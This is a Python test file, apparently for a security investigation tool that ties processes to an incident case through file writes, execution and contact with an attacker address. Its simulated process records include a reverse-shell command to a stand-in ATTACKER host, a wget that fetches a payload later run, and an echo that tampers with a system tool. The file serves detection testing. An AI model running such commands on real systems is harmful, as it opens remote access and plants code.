"""What ties a process to a case: files by which way they flow, addresses of strangers; and what ties nobody."""

from tests.agent.staging import ATTACKER, Stage
from watchfloor.agent.case import Alert, Investigation
from watchfloor.agent.investigating import Investigator
from watchfloor.film.traces import beside, ran

TOOL = "/usr/local/bin/rotate"


def quiet() -> Stage:
    """A host with an hour of people at work, so that "late" and "rare" mean something."""
    stage = Stage()
    for n in range(30):
        stage.run(n * 120.0, 100 + n, 50, f"/usr/sbin/logtool --day {n}", "root")
    return stage


def worked(stage: Stage, record: str) -> Investigation:
    return Investigator(stage.index()).investigate(Alert("c", (record,)))


def test_who_downloaded_what_was_run_is_found_though_no_record_shows_the_writing() -> None:
    stage = quiet()
    fetched = stage.run(600, 500, 60, f"wget -qO /srv/app/.cache/run http://{ATTACKER}/r")
    later = stage.run(1900, 700, 51, "/bin/sh /srv/app/.cache/run", "backup")
    assert fetched in worked(stage, later).operations
    assert later in worked(stage, fetched).operations


def test_a_program_changed_by_the_case_is_the_cases_from_then_on_and_not_before() -> None:
    stage = quiet()
    before = stage.run(300, 400, 51, f"/bin/sh {TOOL}", "root")
    changed = stage.run(1000, 500, 60, f"/bin/sh -c 'echo {ATTACKER} >> {TOOL}'")
    stage.touch(1000.1, 500, TOOL, "file.modify")
    after = stage.run(1200, 700, 52, f"/bin/sh {TOOL}", "root")
    found = worked(stage, changed).operations
    assert after in found and before not in found


def test_a_file_that_everybody_writes_ties_nobody() -> None:
    stage = quiet()
    writers = []
    for n in range(4):
        writers.append(stage.run(600 + n * 300, 500 + n, 60 + n, f"/bin/sh -c 'job {n}'"))
        stage.touch(601 + n * 300, 500 + n, "/var/www/.history", "file.modify")
    assert not set(writers[1:]) & set(worked(stage, writers[0]).operations)


def test_looking_at_a_file_is_no_tie_and_running_it_is() -> None:
    stage = quiet()
    planted = stage.run(600, 500, 60, "/bin/sh -c 'install job'")
    stage.touch(600.5, 500, "/srv/jobs/nightly")
    looked = stage.run(900, 600, 61, "cat /srv/jobs/nightly", "mail")
    hurried = stage.run(1000, 610, 62, "/bin/sh /srv/jobs/nightly", "root")
    found = worked(stage, planted).operations
    assert hurried in found and looked not in found


def test_naming_an_address_is_not_speaking_to_it() -> None:
    stage = quiet()
    shell = stage.run(600, 500, 60, f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/443 0>&1'")
    stage.connect(600.1, 500, ATTACKER)
    again = stage.run(1500, 700, 51, f"curl -s http://{ATTACKER}/x", "backup")
    stage.connect(1500.1, 700, ATTACKER)
    blocked = stage.run(2500, 900, 52, f"iptables -A INPUT -s {ATTACKER} -j DROP", "root")
    found = worked(stage, shell).operations
    assert again in found and blocked not in found


def test_names_are_read_as_a_shell_would() -> None:
    assert ran("python3 get.py", "/home/ana") == ("/home/ana/get.py",)
    assert ran("./crash", "/tmp/w") == ("/tmp/w/crash",)
    assert ran("php -d auto_prepend_file=/srv/lib.php /srv/up/a.php") == ("/srv/up/a.php",)
    assert ran("sudo -n tail -f /var/log/syslog") == ()
    assert ran("tar xf a.tgz", "/tmp") == ()
    assert beside("curl -sO http://x.example/get.py", "/home/ana") == ("path:/home/ana/get.py",)
    assert beside("awk '/^ii/{print $2}'", "/home/ana") == ()
    assert ran("python3 " + "../" * 400 + "etc/x.py", "/home/ana") == ("/etc/x.py",)
